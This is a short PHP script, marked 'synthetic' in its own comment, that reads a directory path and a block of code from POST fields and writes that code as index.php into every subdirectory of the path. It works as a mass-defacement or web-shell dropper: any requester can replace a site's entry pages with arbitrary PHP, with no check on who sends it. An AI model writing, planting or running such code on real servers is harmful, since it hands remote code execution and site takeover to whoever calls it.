<?php
// synthetic: overwrites every index file below a posted path
$root = $_POST['path'];
$page = $_POST['code'];
foreach (glob($root . '/*', GLOB_ONLYDIR) as $d) {
    file_put_contents($d . '/' . 'index.php', $page);
}
